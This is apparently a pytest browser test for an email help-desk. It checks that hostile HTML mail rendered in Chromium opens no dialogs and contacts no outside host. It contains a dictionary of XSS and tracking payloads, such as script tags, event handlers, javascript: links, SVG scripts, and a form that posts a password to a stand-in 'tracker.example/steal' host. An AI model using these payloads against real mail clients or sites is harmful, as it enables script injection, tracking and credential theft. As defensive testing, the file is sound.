"""Hostile mail shown in the page: every message of the email corpus
(tests/connectors/email/corpus), and HTML written to attack the page (scripts, event
handlers, `javascript:` links, remote images, styles, frames, forms, refreshes), goes through
the real inbound pipeline and its conversation is opened in Chromium. No dialog may open, and
no request may leave for a host other than the test server; remote images load only when the
agent asks for them ("Open with images"), and then they do."""

from __future__ import annotations

from email.message import EmailMessage
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from connectors.email import inbound
from core.db import transaction
from inbox import access, queries
from tests.support import CHROMIUM, add_to_inbox, add_user, run_jobs
from tests.web.site import chromium, logged_in_page, screenshots, serving

pytestmark = [pytest.mark.browser,
              pytest.mark.skipif(CHROMIUM is None, reason="needs Debian's chromium")]

CORPUS = Path(__file__).parent.parent / "connectors" / "email" / "corpus"
REMOTE_IMAGE = "https://tracker.example/pixel.gif?who=anna"
HOSTILE_HTML = {
    "script": "<p>Hi</p><script>alert('script')</script>",
    "handlers": "<img src=x onerror=\"alert('onerror')\"><body onload=\"alert('onload')\">"
                "<div onmouseover=\"alert('hover')\">hover me</div>",
    "javascript-link": "<a href=\"javascript:alert('link')\">click</a>"
                       "<a href=\"jAvAsCrIpT:confirm(1)\">click too</a>",
    "remote-image": f"<p>Look</p><img src=\"{REMOTE_IMAGE}\" alt=\"pixel\">"
                    "<img srcset=\"https://tracker.example/a.png 1x, "
                    "https://tracker.example/b.png 2x\">",
    "styles": "<div style=\"background:url(https://tracker.example/bg.png)\">bg</div>"
              "<style>@import url(https://tracker.example/x.css); body{background:"
              "url('https://tracker.example/body.png')}</style>"
              "<link rel=\"stylesheet\" href=\"https://tracker.example/y.css\">",
    "frames": "<iframe src=\"https://tracker.example/frame\"></iframe>"
              "<object data=\"https://tracker.example/o.swf\"></object>"
              "<embed src=\"https://tracker.example/e.swf\">",
    "svg": "<svg onload=\"alert('svg')\"><script>alert('svg script')</script>"
           "<image href=\"https://tracker.example/svg.png\"/></svg>",
    "meta-refresh": "<meta http-equiv=\"refresh\" content=\"0;url=https://tracker.example/\">"
                    "<base href=\"https://tracker.example/\"><a href=\"page\">relative</a>",
    "form": "<form action=\"https://tracker.example/steal\" method=post>"
            "<input name=password><button>Send</button></form>",
    "media": "<video src=\"https://tracker.example/v.mp4\" autoplay></video>"
             "<audio src=\"https://tracker.example/a.mp3\" autoplay></audio>",
}


def hostile_mail(name: str, html: str) -> bytes:
    message = EmailMessage()
    message["From"], message["To"] = "Anna <anna@example.org>", "help@example.com"
    message["Subject"], message["Message-ID"] = f"Hostile {name}", f"<hostile-{name}@example.org>"
    message.set_content(f"The {name} case.")
    message.add_alternative(html, subtype="html")
    return message.as_bytes()


def corpus() -> dict[str, bytes]:
    mail = {path.stem: path.read_bytes() for path in sorted(CORPUS.glob("*.eml"))}
    mail.update({f"hostile-{name}": hostile_mail(name, html)
                 for name, html in HOSTILE_HTML.items()})
    return mail


@pytest.fixture
async def desk(runtime):
    """An admin, and every message of the corpus through the inbound pipeline; returns the
    ids of the conversations they made."""
    await add_user(runtime, "ann@example.com", "admin", "Ann Admin")
    await add_to_inbox(runtime, "support")
    for raw in corpus().values():
        await inbound.store_raw(runtime.raw_sessions, inbox_slug="support", source="smtp",
                                raw=raw, rcpt_to=["help@example.com"])
    await run_jobs(runtime)
    await run_jobs(runtime)
    async with transaction(runtime.sessions) as session:
        rows, _ = await queries.list_conversations(
            session, queries.ConversationFilter(status="all"), scope=access.EVERY_INBOX,
            limit=200, cursor=None)
    return {row.conversation.subject: row.conversation.id for row in rows}


async def watch(page: Any, base: str) -> tuple[list[str], list[str]]:
    """Record every dialog of the page, and every request of its context that reaches the
    network for another host (stopped there). A request the page's policy blocks in the
    browser (reported as failed with "csp") never reaches the network, so it is not one."""
    dialogs: list[str] = []
    elsewhere: list[str] = []

    async def on_dialog(dialog: Any) -> None:
        dialogs.append(f"{dialog.type}: {dialog.message}")
        await dialog.dismiss()

    async def stop_foreign(route: Any) -> None:
        elsewhere.append(route.request.url)
        await route.abort()

    page.on("dialog", on_dialog)
    await page.context.route(lambda url: urlsplit(url).netloc not in ("", base), stop_foreign)
    return dialogs, elsewhere


async def test_the_corpus_in_the_page_opens_no_dialog_and_fetches_nothing_remote(
        runtime, desk, tmp_path):
    assert len(desk) >= len(HOSTILE_HTML) + 10, desk
    async with serving(runtime) as base, chromium() as browser:
        page = await logged_in_page(browser, base, "ann@example.com")
        await page.set_viewport_size({"width": 1280, "height": 2400})  # no frame left lazy
        dialogs, elsewhere = await watch(page, base)
        for subject, conversation_id in desk.items():
            await page.goto(f"http://{base}/conversations/{conversation_id}")
            await page.wait_for_load_state("networkidle")
            frames = page.locator("iframe.html-body")
            for n in range(await frames.count()):
                await frames.nth(n).scroll_into_view_if_needed()
            await page.wait_for_load_state("networkidle")
            await page.mouse.move(200, 300)
            assert (dialogs, elsewhere) == ([], []), subject
        await page.goto(f"http://{base}/conversations/{desk['Hostile remote-image']}")
        await screenshots(page, tmp_path, "hostile-remote-image")
        assert elsewhere == []


async def test_remote_images_load_when_the_agent_asks(runtime, desk, tmp_path):
    async with serving(runtime) as base, chromium() as browser:
        page = await logged_in_page(browser, base, "ann@example.com")
        dialogs, elsewhere = await watch(page, base)
        await page.goto(f"http://{base}/conversations/{desk['Hostile remote-image']}")
        await page.wait_for_load_state("networkidle")
        assert elsewhere == []
        async with page.context.expect_page() as opened:
            await page.get_by_role("link", name="Open with images").click()
        with_images = await opened.value
        await with_images.wait_for_load_state("networkidle")
        assert REMOTE_IMAGE in elsewhere
        assert all(urlsplit(url).netloc == "tracker.example" for url in elsewhere)
        assert dialogs == []
